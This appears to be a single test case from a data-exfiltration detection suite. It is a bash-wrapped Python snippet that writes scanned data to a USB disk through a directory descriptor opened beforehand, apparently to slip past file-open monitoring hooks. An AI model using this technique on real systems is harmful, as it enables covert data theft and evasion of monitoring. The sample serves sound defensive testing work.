#!/usr/bin/env bash
# technique: a descriptor of a directory on the USB disk, opened before the scan was read, names the target
# hooks: file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

folder = os.open(os.environ["USB"], os.O_PATH | os.O_DIRECTORY)
data = scan()
fd = os.open(os.path.basename(COPY), os.O_WRONLY | os.O_CREAT, dir_fd=folder)
os.write(fd, data)
PY
